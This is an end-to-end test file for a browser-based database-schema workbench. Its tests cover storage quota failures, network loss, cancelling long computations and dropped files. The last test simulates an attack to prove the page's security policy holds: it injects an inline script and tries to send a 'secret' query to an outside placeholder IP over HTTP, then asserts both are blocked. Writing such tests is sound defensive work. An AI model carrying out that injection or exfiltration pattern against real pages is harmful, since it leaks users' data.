// What goes wrong around the page: storage, network, a long computation, a wrong file. Each time there is a sentence,
// and nothing on the screen is lost.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { description, open, start } from './workbench.mjs';

let site;
before(async () => { site = await start(); });
after(() => site.close());

const bad = (workbench) => workbench.page.locator('.saved.bad');

/** Says that the schema is still there and can still be taken home. */
async function canBeSaved(workbench) {
  assert.ok((await workbench.tables()).includes('orders'));
  const arrives = workbench.page.waitForEvent('download');
  await bad(workbench).getByRole('button', { name: 'Download a copy' }).click();
  const file = JSON.parse(readFileSync(await (await arrives).path(), 'utf8'));
  assert.ok(file.project.schema.tables.some((table) => table.name.name === 'orders'));
}

test('a full storage is said, and the work can be downloaded', async () => {
  const workbench = await open(site);
  const session = await workbench.context.newCDPSession(workbench.page);
  await session.send('Storage.overrideQuotaForOrigin', { origin: new URL(site.url).origin, quotaSize: 1 });
  await workbench.generate(description('ecommerce'));
  await bad(workbench).waitFor();
  assert.match(await bad(workbench).getAttribute('title'), /storage that the browser gives this page is full/);
  await workbench.screenshot('storage-full');
  await canBeSaved(workbench);
  // With room again the next change is saved.
  await session.send('Storage.overrideQuotaForOrigin', { origin: new URL(site.url).origin });
  await workbench.drag('orders', 30, 20);
  await workbench.page.locator('.saved', { hasText: /^Saved/ }).waitFor();
  await workbench.close();
});

test('a missing storage is said, and the work can be downloaded', async () => {
  const prepare = (context) => context.addInitScript(() => {
    Object.defineProperty(window, 'indexedDB', { get: () => undefined });
    Object.defineProperty(window, 'localStorage', { get: () => { throw new DOMException('denied', 'SecurityError'); } });
  });
  const workbench = await open(site, { prepare });
  await bad(workbench).waitFor();
  assert.match(await bad(workbench).getAttribute('title'), /no storage for pages/);
  await workbench.generate(description('ecommerce'));
  await canBeSaved(workbench);
  await workbench.close();
});

test('without a network the engine cannot come, and comes when there is one', async () => {
  const prepare = (context) => context.route('**/engine*_bg.wasm', (route) => route.abort('internetdisconnected'));
  const workbench = await open(site, { prepare });
  await workbench.textField().fill(description('ecommerce'));
  await workbench.generateButton().click();
  await workbench.notice().waitFor();
  assert.match(await workbench.notice().innerText(), /could not be loaded/);
  assert.equal(await workbench.textField().inputValue(), description('ecommerce'));
  await workbench.context.unroute('**/engine*_bg.wasm');
  await workbench.generate(description('ecommerce'));
  assert.ok((await workbench.tables()).includes('orders'));
  await workbench.close();
});

test('a long computation leaves the page alive and can be cancelled', async () => {
  const workbench = await open(site);
  await workbench.generate(description('library'));
  const before = await workbench.tables();
  const nouns = Array.from({ length: 9000 }, (_, at) => `- The ${'abcdefghij'[at % 10]}${at}thing has a name, a price and a ${at}color`).join('\n');
  await workbench.paste(nouns);
  await workbench.generateButton().click();
  const cancel = workbench.page.getByRole('button', { name: 'Cancel', exact: true });
  await cancel.waitFor();
  // Frames go on: the longest pause between two of them while the engine thinks.
  const pause = await workbench.page.evaluate(() => new Promise((done) => {
    let [last, longest, count] = [performance.now(), 0, 0];
    const tick = (now) => {
      longest = Math.max(longest, now - last);
      last = now;
      count += 1;
      if (count < 40) requestAnimationFrame(tick);
      else done(longest);
    };
    requestAnimationFrame(tick);
  }));
  assert.ok(pause < 500, `a pause of ${pause.toFixed(0)} ms`);
  await cancel.click();
  await workbench.notice().waitFor();
  assert.match(await workbench.notice().innerText(), /^Cancelled/);
  assert.deepEqual(await workbench.tables(), before);
  await workbench.generate(description('ecommerce'));
  assert.ok((await workbench.tables()).includes('orders'));
  workbench.assertQuiet();
  await workbench.close();
});

/** Drops a file on the diagram, as a person does from the desktop. */
async function drop(workbench, name, text) {
  const data = await workbench.page.evaluateHandle(([name, text]) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([text], name));
    return transfer;
  }, [name, text]);
  await workbench.page.dispatchEvent('main.canvas', 'dragover', { dataTransfer: data });
  await workbench.page.locator('.drop-target').waitFor();
  await workbench.page.dispatchEvent('main.canvas', 'drop', { dataTransfer: data });
  await workbench.notice().waitFor();
  await workbench.settled();
  return workbench.notice().innerText();
}

test('a dropped file is recognised: SQL, a description, or neither', async () => {
  const workbench = await open(site);
  const script = 'CREATE TABLE ships (id int PRIMARY KEY, name text NOT NULL);\nCREATE TABLE ports (id int PRIMARY KEY);';
  assert.match(await drop(workbench, 'fleet.sql', script), /fleet\.sql is open/);
  assert.deepEqual(await workbench.tables(), ['ports', 'ships']);
  assert.match(await drop(workbench, 'photo.png', '\u0000\u0001\u0002PNG\u0000'), /photo\.png was not opened/);
  assert.deepEqual(await workbench.tables(), ['ports', 'ships']);
  assert.match(await drop(workbench, 'shop.txt', description('ecommerce')), /shop\.txt/);
  assert.equal(await workbench.textField().inputValue(), description('ecommerce').trim());
  await workbench.page.keyboard.press('Control+z');
  workbench.assertQuiet();
  await workbench.close();
});

// An endpoint of the user's own may be reached over HTTPS or on this machine; tests/e2e/model.test.mjs proves that none is
// without it.
test('nothing but the page itself may run, and nothing is reached unencrypted', async () => {
  const workbench = await open(site);
  const found = await workbench.page.evaluate(async () => {
    const broken = [];
    addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
    // A text is no script where the browser has Trusted Types; a node in its place runs as little.
    const written = document.createElement('script');
    try { written.textContent = 'window.injected = true'; } catch { broken.push('trusted-types'); }
    const script = document.createElement('script');
    script.append('window.injected = true');
    document.body.append(written, script);
    const sent = await fetch('http://192.0.2.1/?secret').then(() => 'sent', () => 'refused');
    await new Promise((done) => setTimeout(done, 100));
    return { sent, injected: Boolean(window.injected), broken };
  });
  assert.deepEqual([found.sent, found.injected], ['refused', false]);
  assert.ok(found.broken.includes('connect-src') && found.broken.includes('trusted-types'), String(found.broken));
  assert.ok(found.broken.some((directive) => ['script-src-elem', 'require-trusted-types-for'].includes(directive)), String(found.broken));
  await workbench.close();
});
